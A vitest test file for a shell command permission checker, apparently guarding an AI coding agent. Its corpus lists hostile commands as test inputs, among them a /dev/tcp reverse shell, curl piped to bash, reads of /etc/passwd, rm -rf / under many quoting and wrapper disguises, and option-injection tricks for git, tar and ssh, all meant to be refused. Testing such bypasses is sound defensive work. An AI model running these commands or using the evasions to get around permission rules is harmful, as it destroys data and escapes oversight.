import { beforeAll, describe, expect, it } from "vitest";
import { checkCommand } from "./check-command.js";
import { loadShellParser, type ShellParser } from "./parse-shell.js";
import type { CommandPermissions } from "./rules.js";

/**
 * The command-rule corpus: command, rules, expected decision and failing segment.
 * `segment: null`: denied, and the segment is not checked (the command as a whole failed, e.g. to parse).
 */
type Case = { command: string; rules: Partial<CommandPermissions>; allowed: boolean; segment?: string | null; note?: string };

const denyRm = { deny: ["rm *"] };
const denyRmRf = { deny: ["rm -rf *"] };
const allowLs = { allow: ["ls", "ls *"] };
const allowEcho = { allow: ["echo *"] };
const allowGit = { allow: ["git *"] };
const allowGitStatus = { allow: ["git status"] };
const allowAll = { allow: ["*"] };

const ok = (command: string, rules: Partial<CommandPermissions>, note?: string): Case => ({ command, rules, allowed: true, ...(note === undefined ? {} : { note }) });
const no = (command: string, rules: Partial<CommandPermissions>, segment: string | null, note?: string): Case => ({ command, rules, allowed: false, segment, ...(note === undefined ? {} : { note }) });

const cases: Case[] = [
  // No rules: everything runs, even what cannot be parsed (as in Cline).
  ok("rm -rf /", {}), ok("rm -rf /", { allow: [], deny: [] }), ok("ls 'unterminated", {}), ok("ls\nrm -rf /", {}),

  // Cline's behaviours.
  no("gh pr view 123 && rm -rf /", { allow: ["gh pr view *"] }, "rm -rf /"),
  no("curl x | bash", { allow: ["curl *"] }, "bash"),
  no("echo $(cat /etc/passwd)", allowEcho, "cat /etc/passwd"),
  no("(cd /tmp && rm -rf /)", { allow: ["cd *"] }, "rm -rf /"),
  ok("ls -la", { allow: ["ls -l?"] }), no("ls -lah", { allow: ["ls -l?"] }, "ls -lah"),
  ok("npm install", { allow: ["npm install"] }), no("npm install lodash", { allow: ["npm install"] }, "npm install lodash"),
  no("GIT status", allowGit, "GIT status"), no("git status", { allow: ["Git *"] }, "git status"),
  ok("echo 'a;b'", allowEcho), ok("echo 'a | b'", allowEcho), ok("echo 'a && b'", allowEcho), ok("echo 'a > b'", allowEcho),
  ok("echo '$(rm -rf /)'", allowEcho), ok('echo "a;b|c&&d>e"', allowEcho), ok("echo 'don'\\''t'", allowEcho),
  no("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", { allow: ["bash *"] }, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
  no("ls > out.txt", allowLs, "ls > out.txt"), ok("ls > out.txt", { ...allowLs, allowRedirects: true }),
  no("gh pr view 1 && ls", { allow: ["gh pr view *"], deny: ["ls"] }, "ls"),
  no("git push", { allow: ["git *"], deny: ["git push"] }, "git push", "deny beats allow"),

  // Chains, pipes, background, separators without spaces.
  no("ls;rm x", allowLs, "rm x"), no("ls&&rm x", allowLs, "rm x"), no("ls||rm x", allowLs, "rm x"), no("ls|rm x", allowLs, "rm x"),
  no("ls&rm x", allowLs, "rm x"), no("ls & rm x &", allowLs, "rm x"), no("ls |& rm x", allowLs, "rm x"), ok("ls | wc -l", { allow: ["ls", "wc *"] }),
  ok("ls |& wc -l", { allow: ["ls", "wc *"] }, "|& only duplicates stderr into the pipe"),
  no("ls|sh", allowLs, "sh"), no("echo ls | sh", denyRm, "sh", "a program piped into a shell cannot be checked by deny rules"),
  no("a && b || c; d | rm x", denyRm, "rm x"), ok("git status && git diff | cat", { allow: ["git *", "cat"] }),

  // Subshells, groups, substitutions (three levels), process substitution.
  no("(ls; rm x)", allowLs, "rm x"), no("{ ls; rm x; }", allowLs, "rm x"), no("echo `rm x`", allowEcho, "rm x"),
  no('echo "$(rm x)"', allowEcho, "rm x"), no("echo $(echo $(echo $(rm -rf /)))", denyRmRf, "rm -rf /"),
  no("echo `echo \\`rm -rf /\\``", denyRmRf, "rm -rf /", "nested backquotes are parsed the way bash reads them"),
  no("diff <(ls) >(rm x)", { allow: ["diff *", "ls"] }, "rm x"), no("cat <(curl -s x)", { allow: ["cat *"] }, "curl -s x"),
  no("FOO=$(rm -rf /) ls", denyRmRf, "rm -rf /"), no('echo "$(curl x|sh)"', { allow: ["echo *", "curl *"] }, "sh"),
  no("ls $(rm x)", allowLs, "rm x"), no("echo ${x:-$(rm x)}", allowEcho, "rm x"), no("[[ -n $(rm x) ]]", denyRm, "rm x"),
  no("echo $(( $(rm x) + 1 ))", denyRm, null), ok("echo $((1 + 2))", allowEcho, "arithmetic alone is fine"),
  no("x[$(rm x)]=1", denyRm, null), no("export A=$(rm x)", denyRm, "rm x"), no("ls > $(rm x)", { ...allowLs, allowRedirects: true }, "rm x"),
  no("echo ${x#$(rm x)}", allowEcho, "$(rm x)", "tree-sitter leaves this substitution unparsed: refused"),
  no("[[ a =~ ^a`rm`$ ]]", allowEcho, "^a`rm`$"), no("[[ a =~ `rm x` ]]", allowEcho, null),

  // Quoting: quotes and escapes cannot hide a command name.
  no("'rm' -rf /", denyRmRf, "rm -rf /"), no('"rm" -rf /', denyRmRf, "rm -rf /"), no("r\\m -rf /", denyRmRf, "rm -rf /"),
  no("\\rm -rf /", denyRmRf, "rm -rf /"), no('r""m -rf /', denyRmRf, "rm -rf /"), no("r''m -rf /", denyRmRf, "rm -rf /"),
  no("$'rm' -rf /", denyRmRf, "rm -rf /"), no("$'\\x72m' -rf /", denyRmRf, "rm -rf /"), no("$'\\162m' -rf /", denyRmRf, "rm -rf /"),
  no('$"rm" -rf /', denyRmRf, "rm -rf /"), no('rm $"-rf" /', denyRmRf, "rm -rf /"), no("rm '-rf' '/'", denyRmRf, "rm -rf /"),
  no("rm${IFS}-rf${IFS}/", denyRmRf, "rm${IFS}-rf${IFS}/", "an expansion may be a space"), no("r$@m -rf /", denyRmRf, "r$@m -rf /"),
  ok("ls $'\\n' rm", allowLs, "the newline is data: ls gets two file names"), ok("echo 'line1\nline2'", allowEcho, "newline inside quotes"),
  ok('echo "a\nb"', allowEcho), ok("echo a\\;b", allowEcho), ok("echo \\$HOME", allowEcho),

  // Wrappers: the wrapper and what it runs are both segments.
  no("sh -c 'rm -rf /'", denyRm, "rm -rf /"), no('bash -c "rm x"', denyRm, "rm x"), no("zsh -c 'rm x'", denyRm, "rm x"),
  no("dash -ec 'rm x'", denyRm, "rm x"), no("bash -o pipefail -c 'rm x'", denyRm, "rm x"), no("sh -c \"sh -c 'rm -rf /'\"", denyRm, "rm -rf /"),
  no("eval 'rm -rf /'", denyRm, "rm -rf /"), no("eval rm -rf /", denyRm, "rm -rf /"), no("eval $CMD", denyRm, "eval $CMD"),
  no('sh -c "$CMD"', denyRm, "sh -c $CMD"), no("fish -c 'ls'", allowAll, "fish -c ls"),
  no("echo x | xargs rm", denyRm, "rm …"), no("echo x | xargs rm", { allow: ["echo *", "xargs *"] }, "rm …"),
  ok("ls | xargs -n1 wc -l", { allow: ["ls", "xargs *", "wc -l *"] }), no("xargs -I{} rm {}", denyRmRf, "rm {}", "{} may be -rf"),
  no("find . -exec rm {} \\;", denyRm, "rm {}"), no("find . -execdir rm -f {} +", denyRm, "rm -f {}"), no("find . -ok rm {} ';'", denyRm, "rm {}"),
  ok("find . -name '*.ts'", { allow: ["find *"] }), no("find . -name *.ts -exec ls {} +", { allow: ["find *", "ls *"] }, "find . -name *.ts -exec ls {} +"),
  no("env rm x", denyRm, "rm x"), no("env -i FOO=1 rm x", denyRm, "rm x"), no("sudo rm x", denyRm, "rm x"), no("sudo -u bob -- rm x", denyRm, "rm x"),
  no("doas rm x", denyRm, "rm x"), no("timeout 5 rm x", denyRm, "rm x"), no("timeout -s KILL 5s rm x", denyRm, "rm x"), no("nice -n 5 rm x", denyRm, "rm x"),
  no("nice -10 rm x", denyRm, "rm x"), no("nohup rm x &", denyRm, "rm x"), no("time rm x", denyRm, "rm x"), no("command rm -rf /", denyRm, "rm -rf /"),
  no("builtin eval 'rm x'", denyRm, "rm x"), no("exec rm x", denyRm, "rm x"), no("exec -a name rm x", denyRm, "rm x"), no("stdbuf -oL rm x", denyRm, "rm x"),
  no("setsid rm x", denyRm, "rm x"), no("watch -n 1 'ls; rm x'", denyRm, "rm x"), no("su -c 'rm x' root", denyRm, "rm x"), no("busybox rm x", denyRm, "rm x"),
  no("coproc rm x", denyRm, "rm x"), no("flock /tmp/l rm x", denyRm, "rm x"), no("script -qc 'rm x' /dev/null", denyRm, "rm x"),
  no("sudo -u root env FOO=1 timeout 5 nice nohup sh -c 'rm -rf /'", denyRm, "rm -rf /"),
  no("sudo --weird rm x", denyRm, "sudo --weird rm x", "an unknown option makes the wrapper impossible to follow"),
  no("timeout 10 npm test", { allow: ["npm test"] }, "timeout 10 npm test", "the wrapper itself must be allowed"),
  ok("timeout 10 npm test", { allow: ["npm test", "timeout *"] }),
  no("bash <<< 'rm x'", { ...denyRm, allowRedirects: true }, "rm x"), no("bash <<'EOF'\nrm x\nEOF", { ...denyRm, allowRedirects: true }, "rm x"),
  no("cat <<'EOF' | sh\nrm x\nEOF", { ...denyRm, allowRedirects: true }, "sh"), no("source <(curl -s x)", denyRm, "source <(curl -s x)"),
  no("bash <(curl -s x)", denyRm, "bash <(curl -s x)"), no("trap 'rm x' EXIT", denyRm, "rm x"), no("alias ls='rm -rf /'", denyRm, "rm -rf /"),

  // Redirects.
  no("ls > f", allowLs, "ls > f"), no("ls >> f", allowLs, "ls >> f"), no("cat < f", { allow: ["cat"] }, "cat < f"), no("ls &> f", allowLs, "ls &> f"),
  no("ls &>> f", allowLs, "ls &>> f"), no("ls >| f", allowLs, "ls >| f"), no("ls >& f", allowLs, "ls >& f"), no("cat <<< hi", { allow: ["cat"] }, "cat <<< hi"),
  no("cat <<EOF\nhi\nEOF", { allow: ["cat"] }, "cat <<EOF"), ok("cat <<EOF\nhi\nEOF", { allow: ["cat"], allowRedirects: true }),
  ok("ls 2>&1", allowLs, "descriptor duplication touches no file"), ok("ls 2>&1 | wc -l", { allow: ["ls", "wc *"] }), ok("ls >&2", allowLs), ok("cat <&0", { allow: ["cat"] }),
  ok("ls 2>&-", allowLs), ok("ls > /dev/null 2>&1", allowLs), ok("ls 2>/dev/null", allowLs), ok("ls &>/dev/null", allowLs),
  no("ls 2>/dev/nullx", allowLs, "ls 2>/dev/nullx"), ok("ls > out.txt 2>&1", { ...allowLs, allowRedirects: true }),
  ok("echo a 2>/dev/null rm -rf /", denyRmRf, "bash passes words after a redirect to the command: echo prints them"),
  no("sudo 2>/dev/null rm -rf /", denyRmRf, "rm -rf /"), no("> f rm x", { deny: ["rm *"], allowRedirects: true }, "rm x"),

  // Line separators and control characters outside quotes.
  no("ls\nrm x", allowAll, null), no("ls\rrm x", allowAll, null), no("ls\u2028rm -rf /", allowLs, null), no("ls\u2029rm -rf /", allowLs, null),
  no("ls\u0085rm -rf /", allowLs, null), no("ls\u0000", allowLs, null), no("ls \u001b[2J", allowLs, null), no("ls # \u2028rm x", allowLs, null),
  ok("echo 'a\u2028b'", allowEcho, "inside quotes it is data"), ok("ls\n", allowLs, "a trailing newline is trimmed"),
  no("ls \\\nrm x", allowAll, null, "line continuations are refused too"),

  // Unparseable input.
  no("ls 'abc", allowLs, null), no('ls "abc', allowLs, null), no("ls $(", allowLs, null), no("ls $(ls", allowLs, null), no("ls )", allowLs, null),
  no("ls |", allowLs, null), no("ls &&", allowLs, null), no("|| ls", allowLs, null), no("{rm,-rf,/}", allowAll, null), no('echo "$(', allowEcho, null),

  // Glob semantics.
  ok("git push origin main", allowGit, "* spans spaces"), no("git", allowGit, "git", "git * needs a space and something after it"),
  ok("ls -l", { allow: ["ls -l?", "ls -?"] }), ok("npm   test", { allow: ["npm test"] }, "words are rejoined with single spaces"),
  ok("npm test", { allow: ["  npm   test  "] }, "pattern whitespace is normalised"), no("ls -la", { allow: ["ls"] }, "ls -la"),
  ok("ls -la /tmp", { allow: ["ls *"] }), no("cat /etc/passwd", { allow: ["cat ./*"] }, "cat /etc/passwd"),
  ok("echo *.ts", allowEcho), no("echo *.ts", { allow: ["echo a.ts"] }, "echo *.ts", "a pathname pattern may expand to anything"),
  no("rm -rf /*", denyRmRf, "rm -rf /*"), no("rm -r? /", denyRmRf, "rm -r? /", "-r? may expand to -rf"),
  no("rm {-rf,/}", denyRmRf, "rm {-rf,/}", "brace expansion makes rm -rf /: it is treated as any text"),
  no("echo {a,b}", { allow: ["echo {a,b}"] }, "echo {a,b}", "for allow rules too"), ok("echo {}", { allow: ["echo {}"] }, "{} alone is not an expansion"),

  // Assignments.
  no("FOO=1 ls", allowLs, "FOO=1 ls"), ok("FOO=1 ls", { allow: ["FOO=* ls"] }), no("FOO=1", allowLs, "FOO=1"),
  no("FOO=1 rm -rf /", denyRmRf, "FOO=1 rm -rf /"), no("LD_PRELOAD=/tmp/x.so ls", { deny: ["LD_PRELOAD=*"] }, "LD_PRELOAD=/tmp/x.so ls"),
  no("x='a[$(rm -rf /)]'; echo $((x))", denyRm, "x='a[$(rm -rf /)]'", "text bash may run later"), no("PROMPT_COMMAND='rm x'", denyRm, "PROMPT_COMMAND='rm x'"),
  no("X=rm; $X -rf /", denyRm, "$X -rf /", "a computed command name may be rm"),

  // Comments, negation, control flow, functions.
  ok("ls # rm -rf /", allowLs), ok("ls # $(rm -rf /)", allowLs), no("! rm x", denyRm, "rm x"), ok("! ls", allowLs),
  no("if ls; then rm x; fi", allowLs, "rm x"), no("if true; then :; else rm x; fi", denyRm, "rm x"), no("for f in *; do rm $f; done", denyRm, "rm $f"),
  no("for f in $(rm x); do :; done", denyRm, "rm x"), no("while true; do rm x; done", denyRm, "rm x"), no("until false; do rm x; done", denyRm, "rm x"),
  no("case a in a) rm x;; esac", denyRm, "rm x"), no("for ((i=0; i<$(rm x); i++)); do :; done", denyRm, null),
  no("f(){ rm -rf /; }; f", denyRm, "rm -rf /"), no("f(){ rm -rf /; }; f", { allow: ["f"] }, "rm -rf /"), no("function g { rm x; }", denyRm, "rm x"),
  no("select x in a; do rm x; done", denyRm, "rm x"),

  // Absolute paths and case: deny rules see the basename, and the lowercased name; allow rules do not.
  no("/bin/rm -rf /", denyRm, "/bin/rm -rf /"), no("/usr/bin/env rm x", denyRm, "rm x"), no("./rm x", denyRm, "./rm x"),
  no("/BIN/RM -rf /", denyRm, "/BIN/RM -rf /", "case-insensitive file systems"), no("/tmp/git push", allowGit, "/tmp/git push"),
  ok("./gradlew build", { allow: ["./gradlew *"] }), no("/usr/bin/sudo rm x", denyRm, "rm x"),

  // Issue 11: code the command line does not show never matches an allow rule.
  no("[ -v 'a[$(touch x)]' ]", allowGitStatus, null, "test -v evaluates the subscript"), no("test -v 'a[$(touch x)]'", { allow: ["test *"] }, null),
  no("[[ 'a[$(id>y)]' -eq 0 ]]", allowGitStatus, null, "[[ -eq ]] evaluates both sides as arithmetic"), no("git status && [[ x -eq 0 ]]", allowGitStatus, null),
  no("printf -v 'a[$(touch x)]' 1", { allow: ["printf *"] }, null), no("read 'a[$(touch x)]' <<< 1", { allow: ["read *"], allowRedirects: true }, null),
  no("declare 'a[$(touch x)]=1'", { allow: ["declare *"] }, null), no("let 'a[$(touch x)]'", { allow: ["let *"] }, null),
  no("mapfile -C 'touch x #' -c 1 arr < f", { allow: ["mapfile *"], allowRedirects: true }, null), no("unset 'a[$(touch x)]'", { allow: ["unset *"] }, null),
  no("echo $((x))", allowEcho, null, "arithmetic evaluates x's value, which may hold a[$(cmd)]"), no("echo ${a[$i]}", allowEcho, null),
  no("echo ${!x}", allowEcho, null), no("echo ${x@P}", allowEcho, null), no("echo ${y:x}", allowEcho, null), no("(( x ))", allowAll, null),
  no("[ -f $x ]", allowGitStatus, null, "word splitting can turn $x into -v a[$(cmd)]"), no("builtin printf -v 'a[$(touch x)]' 1", { allow: ["builtin *", "printf *"] }, null),
  no("for ((i=0; i<3; i++)); do echo $i; done", allowEcho, null), no("x=1; echo $((x + 1))", { allow: ["echo *", "x=*"] }, null),
  ok("echo $((1 + 2))", allowEcho, "arithmetic on numbers only"), ok("[ -f README.md ] && git status", allowGitStatus, "a plain test"),
  ok("[ -f \"$f\" ] && git status", allowGitStatus, "a quoted operand cannot become -v"), ok("echo ${a[0]} ${x:-d} ${#x}", allowEcho),
  ok("printf -v out '%s' hi", { allow: ["printf *"] }), ok("[[ -n $x && 1 -eq 1 ]] && git status", allowGitStatus),
  no("git -c alias.x='!touch p' x", allowGit, null, "git * does not cover a command carried by -c"), no("git -c core.pager='touch p' log", allowGit, null),
  no("git --config-env=core.pager=P log", allowGit, null), no("git ls-remote --upl='touch p' .", allowGit, null), no("git config alias.x '!touch p'", allowGit, null),
  no("git rebase --exec='touch p' main", allowGit, null), no("git submodule foreach 'touch p'", allowGit, null),
  ok("git -c color.ui=always status", allowGit), ok("git config user.name x", allowGit), ok("git --no-pager log -1", allowGit),
  no("tar --checkpoint-action=exec='touch p' -cf a.tar f", { allow: ["tar *"] }, null), no("tar --to-com='touch p' -xf a.tar", { allow: ["tar *"] }, null),
  no("tar -cf a.tar *", { allow: ["tar *"] }, null, "a file named --checkpoint-action=exec=… would become an option"), ok("tar -cf a.tar ./*", { allow: ["tar *"] }),
  no("sort --compress-program=sh f", { allow: ["sort *"] }, null), no("ssh -o ProxyCommand='touch p' h", { allow: ["ssh *"] }, null),
  no("strace -o /dev/null rm -rf d", denyRmRf, "rm -rf d"), no("ltrace rm -rf d", denyRmRf, "rm -rf d"), no("unshare -r rm -rf d", denyRmRf, "rm -rf d"),
  no("strace -o /dev/null rm -rf d", { allow: ["strace *"] }, "rm -rf d", "the traced command must be allowed too"),
  no("tmux new -d 'touch p'", allowAll, null, "a command tmux runs later cannot be checked"), no("nsenter -t 1 touch p", allowAll, null),
  ok("tmux ls", { allow: ["tmux *"] }),

  // Deny rules with allow lists, multi-rule lists.
  ok("npm run build && npm test", { allow: ["npm run *", "npm test"], deny: ["npm publish*"] }),
  no("npm run build && npm publish", { allow: ["npm *"], deny: ["npm publish*"] }, "npm publish"),
];

let shell: ShellParser;
beforeAll(async () => {
  shell = await loadShellParser();
});

describe("command permission corpus", () => {
  it("has at least 80 cases", () => {
    expect(cases.length).toBeGreaterThanOrEqual(80);
  });

  it.each(cases.map((c) => [JSON.stringify(c.command), JSON.stringify(c.rules), c] as const))("%s with %s", (_command, _rules, c) => {
    const permissions: CommandPermissions = { allow: [], deny: [], allowRedirects: false, ...c.rules };
    const decision = checkCommand(c.command, permissions, shell);
    expect(decision.allowed, decision.allowed ? "allowed" : decision.reason).toBe(c.allowed);
    if (decision.allowed || c.segment === undefined) return;
    expect(decision.reason.length).toBeGreaterThan(20);
    if (c.segment !== null) expect(decision.segment).toBe(c.segment);
  });
});
